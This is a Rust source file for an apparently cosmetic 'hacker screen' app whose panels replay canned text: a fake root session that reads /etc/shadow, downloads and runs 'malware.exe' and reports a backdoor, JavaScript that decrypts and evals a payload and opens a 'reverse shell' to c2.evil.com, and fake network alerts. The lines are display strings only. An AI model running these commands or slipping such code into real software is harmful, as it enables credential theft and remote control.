//! Literal scripts behind the scrolling panels, and the sequential playback state.

use chrono::{DateTime, Local, SecondsFormat};
use std::borrow::Cow;

/// Immutable ordered list of display lines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    lines: Vec<Cow<'static, str>>,
}

impl Script {
    pub fn new<I, S>(lines: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<Cow<'static, str>>,
    {
        Self {
            lines: lines.into_iter().map(Into::into).collect(),
        }
    }

    pub fn len(&self) -> usize {
        self.lines.len()
    }

    pub fn is_empty(&self) -> bool {
        self.lines.is_empty()
    }

    pub fn get(&self, index: usize) -> Option<&str> {
        self.lines.get(index).map(|l| l.as_ref())
    }

    pub fn lines(&self) -> &[Cow<'static, str>] {
        &self.lines
    }
}

/// Replays a script one line per step, restarting from the top once exhausted.
///
/// The visible buffer is always the first `cursor` lines of the script, so
/// `cursor <= script.len()` holds by construction.
#[derive(Debug, Clone)]
pub struct SequentialLog {
    script: Script,
    cursor: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Step {
    Appended,
    /// The buffer was cleared and the script started over with its first line.
    Restarted,
    /// Nothing to show; the script is empty.
    Idle,
}

impl SequentialLog {
    pub fn new(script: Script) -> Self {
        Self { script, cursor: 0 }
    }

    pub fn step(&mut self) -> Step {
        if self.script.is_empty() {
            return Step::Idle;
        }
        if self.cursor < self.script.len() {
            self.cursor += 1;
            return Step::Appended;
        }
        self.cursor = 1;
        Step::Restarted
    }

    pub fn cursor(&self) -> usize {
        self.cursor
    }

    pub fn lines(&self) -> &[Cow<'static, str>] {
        &self.script.lines()[..self.cursor]
    }

    pub fn last(&self) -> Option<&str> {
        self.lines().last().map(|l| l.as_ref())
    }

    pub fn script(&self) -> &Script {
        &self.script
    }
}

pub fn command_script(login_at: DateTime<Local>) -> Script {
    let login = format!(
        "Last login: {}",
        login_at.to_rfc3339_opts(SecondsFormat::Millis, true)
    );
    let mut lines: Vec<Cow<'static, str>> =
        COMMAND_LINES.iter().map(|l| Cow::Borrowed(*l)).collect();
    lines.insert(LOGIN_LINE, Cow::Owned(login));
    Script { lines }
}

pub fn code_script() -> Script {
    Script::new(CODE_LINES.iter().copied())
}

/// Position of the mount-time "Last login" line in the command script.
const LOGIN_LINE: usize = 3;

const COMMAND_LINES: [&str; 29] = [
    "ssh root@192.168.1.100",
    "Password: ••••••••",
    "Welcome to Ubuntu 20.04.3 LTS",
    "root@target:~# ls -la",
    "total 48K",
    "drwx------ 6 root root 4.0K Dec 15 10:42 .",
    "drwxr-xr-x 3 root root 4.0K Nov 28 09:15 ..",
    "-rw------- 1 root root  156 Dec 15 10:42 .bash_history",
    "drwx------ 2 root root 4.0K Dec 10 14:23 .ssh",
    "-rw-r--r-- 1 root root  22K Dec 15 09:30 database.db",
    "root@target:~# cat /etc/shadow",
    "root:$6$salt$hash...:18901:0:99999:7:::",
    "daemon:*:18474:0:99999:7:::",
    "bin:*:18474:0:99999:7:::",
    "root@target:~# netstat -tulpn",
    "Active Internet connections",
    "tcp  0.0.0.0:22    LISTEN   1234/sshd",
    "tcp  0.0.0.0:80    LISTEN   5678/apache2",
    "tcp  0.0.0.0:443   LISTEN   5678/apache2",
    "root@target:~# wget http://malware.exe",
    "Connecting to malware.exe...",
    "100%[==========] 2.3MB  1.2MB/s",
    "root@target:~# chmod +x malware.exe",
    "root@target:~# ./malware.exe &",
    "[1] 9876",
    "root@target:~# ps aux | grep malware",
    "root  9876  0.1  0.2  malware.exe",
    "ACCESS GRANTED - BACKDOOR INSTALLED",
    "root@target:~# █",
];

const CODE_LINES: [&str; 30] = [
    "function decrypt(data) {",
    "  const key = 0x41414141;",
    "  let result = \"\";",
    "  for(let i = 0; i < data.length; i++) {",
    "    result += String.fromCharCode(",
    "      data.charCodeAt(i) ^ key",
    "    );",
    "  }",
    "  return result;",
    "}",
    "",
    "const payload = decrypt(encrypted_data);",
    "eval(payload);",
    "",
    "// Establishing reverse shell...",
    "const socket = new WebSocket(\"ws://c2.evil.com\");",
    "socket.onopen = () => {",
    "  console.log(\"Connection established\");",
    "  executeCommands();",
    "};",
    "",
    "function executeCommands() {",
    "  const commands = [",
    "    \"whoami\",",
    "    \"uname -a\",",
    "    \"cat /etc/passwd\",",
    "    \"find / -name \"*.db\" 2>/dev/null\"",
    "  ];",
    "  // ... exploitation code continues",
    "}",
];

pub const NETWORK_EVENTS: [&str; 15] = [
    "TCP 192.168.1.100:22 -> 10.0.0.50:4444 [SYN]",
    "UDP 172.16.0.1:53 -> 8.8.8.8:53 [DNS Query]",
    "HTTP GET /admin/login.php",
    "TCP 10.0.0.1:80 -> 192.168.1.1:3421 [RST]",
    "SSH Connection established from 203.0.113.0",
    "FTP Login attempt: admin/password123",
    "ICMP Echo Request -> 192.168.1.1",
    "TCP Port scan detected on 192.168.1.100",
    "SSL Handshake failed with 10.0.0.20:443",
    "Suspicious traffic from 198.51.100.0/24",
    "Firewall blocked connection to 203.0.113.1",
    "Backdoor communication detected",
    "Data exfiltration in progress...",
    "Intrusion attempt logged",
    "Network anomaly detected",
];

#[cfg(test)]
#[path = "../../../tests/unit/app/panels/script.rs"]
mod tests;
